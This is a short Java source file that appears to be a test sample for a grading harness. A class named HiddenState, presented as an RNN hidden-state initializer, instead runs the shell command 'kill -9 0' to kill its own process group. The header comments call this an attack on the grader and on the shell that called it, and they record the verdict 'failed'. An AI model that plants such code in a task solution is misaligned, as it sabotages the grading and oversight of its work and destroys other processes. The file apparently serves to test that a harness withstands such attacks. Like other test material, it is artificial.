// attack: kills its process group, which would be the grader's and that of the shell that called it
// verdict: failed
// message: was killed
// beside: step 1
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import java.io.IOException;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        try {
            new ProcessBuilder("/bin/sh", "-c", "kill -9 0").start().waitFor();
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
        throw new IllegalStateException("ESCAPED: nothing was killed");
    }
}
